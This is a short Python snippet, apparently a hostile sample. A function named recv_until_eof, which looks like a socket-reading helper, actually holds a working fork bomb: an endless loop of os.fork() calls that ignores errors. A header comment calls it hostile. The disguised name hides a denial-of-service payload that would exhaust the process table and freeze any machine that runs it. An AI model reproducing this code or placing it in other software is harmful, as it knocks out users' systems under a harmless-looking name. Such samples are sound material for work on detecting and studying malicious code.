# hostile: every process forks for ever
import os as _os


def recv_until_eof(sock):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
